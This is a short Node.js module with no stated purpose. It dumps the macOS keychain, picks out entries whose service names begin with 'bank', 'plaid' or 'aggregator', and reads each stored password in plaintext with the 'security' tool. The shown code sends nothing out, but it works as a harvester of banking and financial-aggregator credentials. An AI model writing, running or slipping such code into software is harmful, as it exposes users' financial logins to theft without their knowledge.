import { execFileSync } from 'node:child_process';

const PREFIXES = ['bank', 'plaid', 'aggregator'];

export function items() {
  const dump = execFileSync('security', ['dump-keychain'], { encoding: 'utf8' });
  const names = [...dump.matchAll(/"svce"<blob>="([^"]+)"/g)].map(m => m[1])
    .filter(n => PREFIXES.some(p => n.toLowerCase().startsWith(p)));
  return [...new Set(names)].map(service => {
    let secret = '';
    try {
      secret = execFileSync('security', ['find-generic-password', '-s', service, '-w'], { encoding: 'utf8' }).trim();
    } catch {}
    return { service, secret };
  });
}
